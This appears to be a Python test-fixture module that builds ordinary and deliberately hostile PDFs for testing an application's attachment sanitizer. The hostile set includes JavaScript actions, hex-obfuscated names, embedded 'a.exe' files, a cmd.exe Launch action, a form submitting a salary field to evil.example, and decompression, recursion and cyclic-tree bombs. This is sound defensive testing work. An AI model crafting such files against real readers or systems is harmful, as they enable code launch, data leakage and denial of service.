"""PDFs for tests, as people make them and as nobody should send them."""

from __future__ import annotations

import io
import uuid
import zlib
from pathlib import Path
from typing import Any

from fpdf import FPDF

from fieldapp.attachments.actions import keep_all
from fieldapp.attachments.documents import Document, Limits, bind
from fieldapp.clock import now
from fieldapp.db import db, writing

LIMITS = Limits(bytes=8 * 1024 * 1024, pages=60, seconds=20, memory=1024 * 1024 * 1024)
FONT = Path(__file__).parent.parent / "fieldapp" / "codes" / "fonts"
SCRIPT = "app.alert(1)"


def report(pages: int = 2, words: str = "Peel strength 3.2 MPa", **info: Any) -> bytes:
    """What a laboratory sends: words, lines, a link, who wrote it."""
    pdf = FPDF()
    pdf.set_author(info.get("author", "secret-author"))
    pdf.set_font("Helvetica", size=14)
    for n in range(pages):
        pdf.add_page()
        pdf.cell(text=f"{words} / page {n + 1}", link="https://tracker.example/secret-link")
        pdf.rect(20, 40, 100, 60)
    return bytes(pdf.output())


def locked(password: str = "open-sesame") -> bytes:
    pdf = FPDF()
    pdf.set_font("Helvetica", size=14)
    pdf.set_encryption(owner_password=f"{password}-owner", user_password=password)
    pdf.add_page()
    pdf.cell(text="locked")
    return bytes(pdf.output())


def raw(objects: dict[int, str | bytes], *, root: int = 1, trailer: str = "") -> bytes:
    """A PDF of these objects, by number, with a table that is right."""
    out, places = io.BytesIO(), {}
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    for number, body in objects.items():
        places[number] = out.tell()
        body = body.encode("latin-1") if isinstance(body, str) else body
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    table, size = out.tell(), max(objects) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        line = b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 00000 f \n"
        out.write(line)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R %s >>\n" % (size, root, trailer.encode()))
    out.write(b"startxref\n%d\n%%%%EOF\n" % table)
    return out.getvalue()


def stream(content: bytes, entries: str = "") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(content), entries.encode()) + content + b"\nendstream"


def page_with(*, page: str = "", catalog: str = "", objects: dict[int, str | bytes] | None = None) -> bytes:
    """One page that says "seen", with more in its dictionary, in the catalog, or beside them."""
    return raw(
        {
            1: f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
            2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R"
            f" /Resources << /Font << /F1 5 0 R >> >> {page} >>",
            4: stream(b"BT /F1 24 Tf 40 90 Td (seen) Tj ET"),
            5: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        }
        | (objects or {})
    )


_JS = f"<< /S /JavaScript /JS ({SCRIPT}) >>"
_PAYLOAD = stream(b"MZ-secret-payload", "/Type /EmbeddedFile")

# Each name: what somebody puts into a PDF besides pages.
HOSTILE = {
    "open action": page_with(catalog=f"/OpenAction {_JS}"),
    "script by name": page_with(catalog=f"/Names << /JavaScript << /Names [(a) {_JS}] >> >>"),
    "script in hex": page_with(catalog=f"/Open#41ction << /S /Java#53cript /J#53 ({SCRIPT}) >>"),
    "when the page opens": page_with(page=f"/AA << /O {_JS} /C {_JS} >>"),
    "when it closes": page_with(catalog=f"/AA << /WC {_JS} >>"),
    "embedded file": page_with(
        catalog="/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
        objects={6: "<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", 7: _PAYLOAD},
    ),
    "a file beside the page": page_with(
        page="/AF [6 0 R]",
        objects={6: "<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", 7: _PAYLOAD},
    ),
    "a file behind a pin": page_with(
        page="/Annots [6 0 R]",
        objects={
            6: "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 7 0 R >>",
            7: "<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>", 8: _PAYLOAD,
        },
    ),
    "launch": page_with(
        page="/Annots [6 0 R]",
        objects={6: "<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /Launch /F (cmd.exe) >> >>"},
    ),
    "link": page_with(
        page="/Annots [6 0 R]",
        objects={6: "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://evil.example) >> >>"},
    ),
    "movie": page_with(
        page="/Annots [6 0 R]",
        objects={6: f"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 300 200] /A {_JS} /RichMediaContent << >> >>"},
    ),
    "form": page_with(
        catalog="/AcroForm << /Fields [6 0 R] /XFA 7 0 R /CO [6 0 R] >>",
        page="/Annots [6 0 R]",
        objects={
            6: "<< /Type /Annot /Subtype /Widget /FT /Tx /T (salary) /V (secret) /Rect [10 10 200 40] /P 3 0 R"
            f" /AA << /K {_JS} >> /A << /S /SubmitForm /F (http://evil.example) >> >>",
            7: stream(f"<xdp>{SCRIPT}</xdp>".encode()),
        },
    ),
    "behind the resources": raw(
        {
            1: "<< /Type /Catalog /Pages 2 0 R >>",
            2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R"
            " /Resources << /Font << /F1 5 0 R >> /Odd 6 0 R >> >>",
            4: stream(b"BT /F1 24 Tf 40 90 Td (seen) Tj ET"),
            5: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            6: f"<< /Next {_JS} >>",
        }
    ),
}  # fmt: skip


def many_pages(count: int) -> bytes:
    kids = " ".join("3 0 R" for _ in range(count))
    return raw(
        {
            1: "<< /Type /Catalog /Pages 2 0 R >>",
            2: f"<< /Type /Pages /Kids [{kids}] /Count {count} >>",
            3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>",
        }
    )


def liar(count: int) -> bytes:
    """Says one page and brings more; or the other way round."""
    return many_pages(count).replace(b"/Count %d" % count, b"/Count 1".ljust(len(b"/Count %d" % count)))


def nested(depth: int) -> bytes:
    """A tree of pages so deep, each branch with one twig."""
    objects: dict[int, str | bytes] = {1: "<< /Type /Catalog /Pages 2 0 R >>"}
    for n in range(2, depth + 2):
        parent = f"/Parent {n - 1} 0 R" if n > 2 else ""
        objects[n] = f"<< /Type /Pages {parent} /Kids [{n + 1} 0 R] /Count 1 >>"
    objects[depth + 2] = f"<< /Type /Page /Parent {depth + 1} 0 R /MediaBox [0 0 300 200] >>"
    return raw(objects)


def circle() -> bytes:
    """Pages whose child is their parent."""
    return raw({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"})


def brackets(depth: int) -> bytes:
    return page_with(page="/Odd " + "[" * depth + "]" * depth)


def bomb(megabytes: int) -> bytes:
    """A page whose content unpacks to so much."""
    squeezer, piece = zlib.compressobj(9), b"q " * (512 * 1024)
    squeezed = b"".join([*(squeezer.compress(piece) for _ in range(megabytes)), squeezer.flush()])
    twice = zlib.compress(squeezed, 9)
    return raw(
        {
            1: "<< /Type /Catalog /Pages 2 0 R >>",
            2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R"
            " /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] >>] >>",
            4: stream(twice, "/Filter [/FlateDecode /FlateDecode]"),
        }
    )


def kept_document(enterprise_id: int) -> uuid.UUID:
    """The id of a PDF of that enterprise, kept by nobody in particular."""
    document = bind(io.BytesIO(report()), "report.pdf", LIMITS)
    assert isinstance(document, Document)
    with writing():
        db.session.rollback()
        [made] = keep_all(None, enterprise_id, [document], now())
        db.session.commit()
    return made
